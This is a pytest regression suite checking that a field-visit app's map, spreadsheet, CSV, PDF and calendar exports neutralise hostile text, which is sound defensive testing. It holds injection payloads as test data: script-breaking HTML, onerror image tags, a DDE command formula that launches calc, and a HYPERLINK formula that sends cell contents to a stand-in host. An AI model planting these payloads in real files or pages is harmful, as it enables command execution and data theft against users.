"""Issue 17: hostile text (names, case ids, collectors, comments) through every export — the map
page, XLSX, CSV, the PDF report's and the prep sheet's HTML — stays text: nothing executes (no
script closed or opened, no comment that swallows the page's script) and nothing evaluates (no
spreadsheet formula)."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from tests.paths import CASES as CASES_DIR
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fieldvisit.adapters.escape import csv_cell, formula_like, html_text, json_for_script
from fieldvisit.adapters.maps.page import build_page
from fieldvisit.adapters.report_files import report_html, write_csv, write_xlsx
from fieldvisit.services.reports import DAY_COLUMNS, VISIT_COLUMNS

CASES = CASES_DIR
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
NASTY = ["<!--<script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\u2028\u2029",
         "=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"open\")", "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\rCR",
         "=cmd|' /C calc'!A0", "#N/A", "&lt;", "]]>", "'quoted'", '"dq"', "`${x}`",
         "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe66SUM(1)", "\n=1+1"]  # full-width forms: BRK14b A
hostile = st.one_of(st.sampled_from(NASTY), st.text(alphabet=st.sampled_from(list("<>&=@+-\t\r!/'\"sx\u2028\uff1d\uff0b\uff0d\uff20")),
                                                    min_size=1, max_size=12))


@pytest.fixture(autouse=True)
def _qt(qapp):
    """Headings and map labels go through Qt's translator: a QApplication first."""
    return qapp


def fv(*args, db):
    return subprocess.run([sys.executable, "-m", "fieldvisit", "--db", db, *args], capture_output=True, text=True,
                          env={**os.environ, "TZ": "Europe/Madrid"}, timeout=120)


# --- case 06: formula injection in the team report -----------------------------------------------

def test_case_06_report_cells_are_text(tmp_path):
    db = str(tmp_path / "ws.sqlite")
    folder = CASES / "06_formula_injection_report"
    assert fv("cases", "import", str(folder / "cases.csv"), "--as-of", "2026-11-23", db=db).returncode == 0
    assert fv("visits", "add", "--json-file", str(folder / "visit.json"), db=db).returncode == 0
    for fmt in ("xlsx", "csv"):
        r = fv("report", "--from", "2026-11-01", "--to", "2026-11-30", "--format", fmt,
               "--out", str(tmp_path / f"r.{fmt}"), db=db)
        assert r.returncode == 0, r.stderr
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    seen = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    seen.add(cell.value)
    assert '=HYPERLINK("http://example.invalid/?d="&A1,"open")' in seen and "@SUM(1+1)" in seen
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))))
    assert rows[0]["case_id"] == '\'=HYPERLINK("http://example.invalid/?d="&A1,"open")'
    assert rows[0]["collector"] == "'@SUM(1+1)"


def test_full_width_formulas_and_a_tab_comment_in_the_csv_report(sqlite_app, tmp_path):
    """BRK14b A: full-width ＝ ＋ － ＠ at a cell's start were written raw; a review comment's
    leading TAB was stripped at input (the text changed). Now: kept as written, neutralised on export."""
    import uuid

    from fieldvisit.adapters import crypto
    from fieldvisit.services.identities import init_identity
    from fieldvisit.services.reports import team_report
    from fieldvisit.services.sync import review_visit
    from fieldvisit.services.visits import record_visits

    ids = ["\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)"]
    rows = "".join(f"{cid},N{i},40.42,-3.7,ES,Europe/Madrid,100.00,EUR,10,\uff1dFull\n" for i, cid in enumerate(ids))
    file = tmp_path / "c.csv"
    file.write_text("case_id,name,lat,lon,country,timezone,balance,currency,days_past_due,collector\n" + rows,
                    encoding="utf-8")
    r = fv("cases", "import", str(file), "--as-of", "2026-11-23", db=sqlite_app.url)
    assert r.returncode == 0, r.stderr
    visits = [{"visit_id": str(uuid.uuid4()), "case_id": cid, "outcome": "not_home", "person_met": "nobody",
               "arrived_at": "2026-11-24T10:00:00+01:00", "left_at": "2026-11-24T10:20:00+01:00"} for cid in ids]
    record_visits(sqlite_app.uow(), visits, rules=sqlite_app.rules())
    init_identity(sqlite_app.uow(), crypto, role="supervisor", name="Office")
    done = review_visit(sqlite_app.uow(), visits[0]["visit_id"], "has_issues", "\t-2+3")
    assert done["comment"] == "\t-2+3"  # as written
    report = team_report(sqlite_app.uow(), date(2026, 11, 20), date(2026, 11, 30), as_of=date(2026, 11, 24))
    write_csv(tmp_path / "r.csv", report)
    got = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert sorted(row["case_id"] for row in got) == sorted("'" + cid for cid in ids)
    assert {row["collector"] for row in got} == {"'\uff1dFull"}
    assert [row["review_comment"] for row in got if row["review_comment"]] == ["'\t-2+3"]


# --- one function per destination ------------------------------------------------------------

@given(st.lists(hostile, min_size=1, max_size=5))
@settings(max_examples=200, deadline=None)
def test_json_for_script_cannot_leave_the_script(values):
    out = json_for_script({"names": values})
    assert not re.search("[<>&\u2028\u2029]", out)
    assert json.loads(out) == {"names": values}


@given(hostile)
@settings(max_examples=200, deadline=None)
def test_csv_and_html_cells(value):
    cell = csv_cell(value)
    if formula_like(value) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value):
        assert cell == "'" + value
    assert "<" not in html_text(value) and ">" not in html_text(value)


# --- every export at once ------------------------------------------------------------------------

def _report(text: str) -> dict:
    visit = {c: text for c in VISIT_COLUMNS}
    visit.update(version=1, promise_amount=None, payment_amount=None, agreed_plan=[],  # a list of instalments
                 date="2026-11-24", promise_date="2026-12-01")  # dates are dates; the texts are hostile
    day = {c: 0 for c in DAY_COLUMNS}
    day.update(date="2026-11-24", collector=text)
    totals = {c: 0 for c in DAY_COLUMNS}
    return {"visits": [visit], "days": [day], "totals": totals, "from": "2026-11-01", "to": "2026-11-30"}


def _page(text: str) -> str:
    case = {"id": text, "name": text, "lat": 40.42, "lon": -3.70, "bucket": "B1", "dpd": 10, "balance": text,
            "window": text, "address": text, "flags": [text], "blocked": False, "promise": text}
    route = {"collector": text, "date": "2026-11-24", "start": {"lat": 40.41, "lon": -3.71},
             "end": {"lat": 40.41, "lon": -3.71},
             "stops": [{"id": text, "name": text, "lat": 40.42, "lon": -3.70, "eta": "10:00", "wait": "",
                        "appointment": False}]}
    return build_page([case], route, standalone=True, title=text)


def _scripts(page: str) -> int:
    return len(re.findall(r"<script\b", page, re.I))


@given(hostile)
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
def test_every_export_keeps_hostile_text_as_text(_qt, tmp_path_factory, value):
    tmp = tmp_path_factory.mktemp("x")
    # map page: the same script structure as with a plain name; the text never appears raw
    page, plain = _page(value), _page("Ana")
    assert _scripts(page) == _scripts(plain)
    assert page.count("<!--") == plain.count("<!--") and page.count("</script") == plain.count("</script")
    # XLSX: string cells only
    write_xlsx(tmp / "r.xlsx", _report(value))
    for ws in openpyxl.load_workbook(tmp / "r.xlsx"):
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
    # CSV: no cell a spreadsheet would evaluate
    write_csv(tmp / "r.csv", _report(value))
    for row in csv.reader(io.StringIO((tmp / "r.csv").read_text(encoding="utf-8-sig"), newline="")):
        for cell in row:
            assert not formula_like(cell) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), cell
    # PDF report HTML: no element the text did not come from
    markup = report_html(_report(value), value)
    assert "<script" not in markup.lower() and "<img" not in markup.lower() and "<!--" not in markup


def test_prep_sheet_html_escapes_the_case(sqlite_app):
    from fieldvisit.adapters.pdf import sheet_html
    from fieldvisit.services.demo import build_demo
    from fieldvisit.services.prep import prep_sheet

    build_demo(sqlite_app.uow(), count=5, as_of=date(2026, 11, 24))
    with sqlite_app.uow() as uow:
        case = uow.cases.list()[0]
        case.name, case.address = "<!--<script>alert(1)</script>", "<img src=x onerror=alert(1)>"
        uow.cases.update_many([(uow.cases.keys()[case.case_id], case, frozenset({"name", "address"}))], None)
        uow.commit()
    markup = sheet_html(prep_sheet(sqlite_app.uow(), case.case_id, date(2026, 11, 24)))
    assert "<script" not in markup and "<img" not in markup and "<!--" not in markup
    assert "&lt;!--&lt;script&gt;" in markup


@pytest.mark.skipif(CHROMIUM is None, reason="chromium not installed")
def test_a_name_opening_a_comment_does_not_stop_the_map(tmp_path):
    """The page in a real browser: its script runs to the end (the title gets its ✓) and draws the stop."""
    out = tmp_path / "map.html"
    out.write_text(_page("<!--<script>"), encoding="utf-8")
    cmd = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
           "--disable-background-networking", "--disable-component-update", "--disable-sync",
           f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=5000", "--dump-dom", out.as_uri()]
    dom = subprocess.run(cmd, capture_output=True, text=True, timeout=120).stdout
    assert "✓</title>" in dom
    assert 'data-stop="&lt;!--&lt;script&gt;"' in dom  # the stop is drawn, its id shown as text


# --- the day's hand-off files: KML, GPX, iCalendar ------------------------------------------------

def _itinerary(text: str) -> dict:
    stop = {"n": 1, "case_id": text, "name": text, "address": text, "phone": text, "notes": text,
            "lat": 40.42, "lon": -3.70, "start": "2026-11-24T10:00:00+01:00",
            "departure": "2026-11-24T10:20:00+01:00", "timezone": "Europe/Madrid", "appointment": True}
    return {"collector": text, "date": "2026-11-24", "start": {"lat": 40.41, "lon": -3.71},
            "end": {"lat": 40.41, "lon": -3.71}, "stops": [stop]}


@given(hostile)
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
def test_hand_off_files_keep_hostile_text_as_text(value):
    import xml.etree.ElementTree as ET

    import icalendar

    from fieldvisit.adapters.handoff.gpx import gpx_text
    from fieldvisit.adapters.handoff.ics import ics_bytes
    from fieldvisit.adapters.handoff.kml import kml_text

    it = _itinerary(value)
    # KML: well-formed; a description is HTML in Google Earth, so once the XML is read it holds no
    # markup at all (the HTML-escaped text shows as the text itself)
    root = ET.fromstring(kml_text(it).encode("utf-8"))
    descriptions = [e.text or "" for e in root.iter() if e.tag.endswith("description")]
    assert descriptions and all("<" not in d and ">" not in d for d in descriptions)
    plain = _lines(value).strip()
    assert all(plain in _lines(html.unescape(d)) for d in descriptions)
    # GPX: well-formed, the text read back as it was (no element the text did not come from)
    root = ET.fromstring(gpx_text(it).encode("utf-8"))
    assert not any(e.tag.split("}")[-1] in ("script", "img", "a") for e in root.iter())
    # iCalendar: one event; the text cannot open a property or component of its own
    cal = icalendar.Calendar.from_ical(ics_bytes(it, it["stops"]))
    events = [c for c in cal.walk() if c.name == "VEVENT"]
    assert len(events) == 1
    assert _lines(str(events[0]["location"])) == _lines(value)  # line ends may be normalised


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_kml_description_shows_a_tag_as_text():
    from fieldvisit.adapters.handoff.kml import kml_text

    kml = kml_text(_itinerary("<img src=x onerror=alert(2)>"))
    assert "&amp;lt;img src=x onerror=alert(2)&amp;gt;" in kml  # HTML-escaped, then XML-escaped
    assert "<img" not in kml
